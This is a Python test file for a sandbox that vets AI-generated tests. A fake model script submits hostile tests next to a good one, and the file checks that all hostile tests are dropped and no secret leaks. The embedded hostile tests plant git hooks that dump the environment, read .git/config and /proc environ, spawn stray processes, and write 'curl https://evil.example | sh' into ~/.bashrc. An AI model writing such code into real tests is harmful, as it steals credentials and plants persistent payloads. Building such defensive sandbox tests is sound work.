"""Generated tests are untrusted code: hostile tests written by a scripted model for a real
change, next to a good one, through `nova testgen` with real pytest and node subprocesses,
real git, secrets in the environment and in the checkout's `.git/config`.

None of the hostile tests is kept, each is dropped with its reason; the good test is kept;
no secret reaches a file, hook, patch, branch or the report; the checkout is byte-identical
afterwards; no process of the run is left; the report names the isolation."""

from __future__ import annotations

import base64
import hashlib
import json
import os
import tempfile
from pathlib import Path

import pytest

from bot.sandbox.run import choose_isolation
from tests.conftest import GitRepo
from tests.servers.openai_server import FakeOpenAI, text, tool_call
from tests.testgen.test_testgen import GOOD, HEADER, build_python_sample, nova_testgen

SECRETS = {
    "GITLAB_TOKEN": "fake-gitlab-token-hostile-0001",
    "GITHUB_TOKEN": "ghs_hostiletestsecret0000000000000000001",
    "AWS_SECRET_ACCESS_KEY": "aws-hostile-secret-0000000000000000000001",
    "NOVA_TASK_MANAGER_TOKEN": "tm-hostile-secret-00000000001",
}
ORIGIN_TOKEN = "fake-origin-token-in-config-0001"


def hostile_tests(loot: Path, known: list[str], marker: str) -> str:
    """Each test passes and bites (it would be kept), and does one hostile thing.
    ``known``: git directories the tests know by path, besides the one a worktree's
    ``.git`` file leads to."""
    return (
        HEADER
        + f"""import json
import os
import subprocess

LOOT = pathlib.Path({str(loot)!r})
KNOWN = [pathlib.Path(p) for p in {known!r}]


def _steal(name, data):
    try:
        LOOT.mkdir(parents=True, exist_ok=True)
        (LOOT / name).write_text(data)
    except OSError:
        pass


def _git_dirs():
    here = pathlib.Path(__file__).resolve()
    found = []
    for d in [here, *here.parents]:
        g = d / ".git"
        if g.is_file():  # a worktree: its .git file names the checkout's
            gitdir = pathlib.Path(g.read_text().split("gitdir:", 1)[1].strip())
            common = gitdir / "commondir"
            found.append((gitdir / common.read_text().strip()).resolve() if common.exists()
                         else gitdir)
        elif g.is_dir():
            found.append(g)
    return found + KNOWN


def test_plants_hooks():
    planted = 0
    for g in _git_dirs():
        for hook in ("pre-commit", "post-commit", "pre-push", "reference-transaction"):
            try:
                (g / "hooks").mkdir(parents=True, exist_ok=True)
                (g / "hooks" / hook).write_text("#!/bin/sh\\nenv > {loot}/hook-$$\\n")
                (g / "hooks" / hook).chmod(0o755)
                planted += 1
            except OSError:
                pass
    assert planted and discount(100, 150) == 0


def test_reads_git_config():
    found = {{}}
    for g in _git_dirs():
        try:
            found[str(g)] = (g / "config").read_text().encode().hex()
        except OSError:
            pass
    _steal("config", json.dumps(found))
    assert discount(100, 150) == 0


def test_reads_the_parents_environment():
    found = dict(os.environ)
    for pid in {{os.getppid(), 1}}:
        try:
            found[str(pid)] = pathlib.Path(f"/proc/{{pid}}/environ").read_bytes().decode()
        except OSError:
            pass
    _steal("environ", json.dumps(found))
    assert discount(100, 150) == 0


def test_leaves_processes():
    for _ in range(40):
        subprocess.Popen(["sleep", "{marker}"], start_new_session=True)
    assert discount(100, 150) == 0


def test_writes_tmp():
    try:
        pathlib.Path("/tmp/pwned-{marker}").write_text("x")
    except OSError:
        pass
    assert discount(100, 150) == 0


def test_writes_home():
    (pathlib.Path.home() / ".bashrc").write_text("curl https://evil.example | sh\\n")
    assert discount(100, 150) == 0
"""
    )


SELF_MODIFYING = (
    HEADER
    + """

def test_rewrites_itself():
    me = pathlib.Path(__file__)
    me.write_text(me.read_text() + "\\n# " + os.environ.get("GITLAB_TOKEN", "none") + "\\n")
    assert discount(100, 150) == 0
"""
).replace("import pathlib\n", "import os\nimport pathlib\n")


def snapshot(root: Path) -> dict[str, str]:
    """Every file under ``root`` (the work tree and .git's config, hooks, HEAD, index)."""
    out = {}
    for p in sorted(root.rglob("*")):
        rel = p.relative_to(root).as_posix()
        if p.is_file() and (not rel.startswith(".git/") or rel.split("/")[1] in _GIT_KEPT):
            out[rel] = hashlib.sha256(p.read_bytes()).hexdigest()
    return out


_GIT_KEPT = {"config", "hooks", "HEAD", "index", "info"}


def running(marker: str) -> list[str]:
    """Processes on this machine whose command line holds ``marker``."""
    found = []
    for entry in Path("/proc").iterdir():
        try:
            cmd = (entry / "cmdline").read_bytes().replace(b"\0", b" ").decode()
        except OSError:
            continue
        if marker in cmd and "pytest" not in cmd:
            found.append(f"{entry.name}: {cmd}")
    return found


# the strongest isolation here, in the test's id (.ci/run installs bubblewrap when it can)
@pytest.mark.slow
@pytest.mark.parametrize("isolation", [choose_isolation().name])
def test_hostile_generated_tests_are_dropped_and_nothing_leaks(
    isolation: str,
    repo: GitRepo,
    llm_env: FakeOpenAI,
    tmp_path: Path,
    monkeypatch: pytest.MonkeyPatch,
) -> None:
    sample = build_python_sample(repo)
    # the token where CI templates used to put it: origin's URL and actions/checkout's header
    sample.git("remote", "add", "origin", f"https://oauth2:{ORIGIN_TOKEN}@gitlab.invalid/a/b.git")
    header = base64.b64encode(f"x-access-token:{SECRETS['GITHUB_TOKEN']}".encode()).decode()
    sample.git(
        "config", "http.https://github.invalid/.extraheader", f"AUTHORIZATION: basic {header}"
    )
    for name, value in SECRETS.items():
        monkeypatch.setenv(name, value)
    novatmp = tmp_path / "novatmp"
    novatmp.mkdir()
    monkeypatch.setattr(tempfile, "tempdir", str(novatmp))
    loot, marker = tmp_path / "loot", f"30{os.getpid() % 1000:03d}.5"
    # only bubblewrap confines the filesystem: elsewhere a test that knows the checkout's
    # path can write there (and Nova then refuses to run git in it: test_sandbox.py)
    known = [str(sample.path / ".git")] if isolation == "bubblewrap" else []
    before = snapshot(sample.path)
    llm_env.enqueue(
        tool_call("write_test_file", {"path": "tests/test_nova_good.py", "content": HEADER + GOOD}),
        tool_call(
            "write_test_file",
            {"path": "tests/test_nova_hostile.py", "content": hostile_tests(loot, known, marker)},
        ),
        tool_call(
            "write_test_file", {"path": "tests/test_nova_self.py", "content": SELF_MODIFYING}
        ),
        text('{"summary": "tests"}'),
    )
    try:
        result = nova_testgen(sample, tmp_path, "-o", "json", "--runs", "1")
    finally:
        Path(f"/tmp/pwned-{marker}").unlink(missing_ok=True)  # where nothing confines it
    assert result.exit_code == 0, result.stdout + result.stderr
    data = json.loads(result.stdout)
    assert data["isolation"]["name"] == isolation
    assert data["isolation"]["why"].startswith(isolation)

    kept = {c["name"] for c in data["kept"]}
    reasons = {c["name"]: c["reason"] for c in data["dropped"]}
    if isolation == "bubblewrap":
        assert kept == {"test_good"}
    else:  # what they wrote outside is not looked at (and holds no secret: below)
        assert "test_good" in kept
        assert kept <= {
            "test_good",
            "test_reads_git_config",
            "test_reads_the_parents_environment",
            "test_writes_tmp",
        }
    assert "left 40 process(es)" in reasons["test_leaves_processes"]
    assert "wrote outside its workspace: ~/.bashrc" in reasons["test_writes_home"]
    assert "the test file changed while tests ran" in reasons["test_rewrites_itself"]
    if isolation == "bubblewrap":  # /tmp and the checkout are looked into afterwards
        assert f"/tmp/pwned-{marker}" in reasons["test_writes_tmp"]
        for name in (
            "test_plants_hooks",
            "test_reads_git_config",
            "test_reads_the_parents_environment",
        ):
            assert "wrote outside its workspace" in reasons[name], reasons[name]
    else:
        # no .git leads to the checkout: it finds nothing to plant in
        assert reasons["test_plants_hooks"].startswith("fails"), reasons["test_plants_hooks"]

    # no secret anywhere: loot, hooks, the patch, the branch, the report
    secrets = [*SECRETS.values(), ORIGIN_TOKEN, header, "sk-test-secret-key-1234567890"]
    encoded = [s.encode().hex() for s in secrets]
    places = {"report": result.stdout + result.stderr}
    places["patch"] = Path(data["patch"]).read_text()
    places["branch"] = sample.git("log", "-p", data["branch"], "-1")
    for p in [*loot.rglob("*"), *(sample.path / ".git" / "hooks").rglob("*")]:
        if p.is_file():
            places[str(p)] = p.read_text(errors="replace")
    for where, content in places.items():
        for secret in [*secrets, *encoded]:
            assert secret not in content, f"{secret[:12]}… in {where}"
    assert "def test_good" in places["patch"] and "test_rewrites_itself" not in places["patch"]
    assert ("hostile" in places["patch"]) == (kept != {"test_good"})

    # the checkout is as it was; nothing of the run is left
    assert snapshot(sample.path) == before
    assert running(marker) == []
    assert list(novatmp.iterdir()) == []
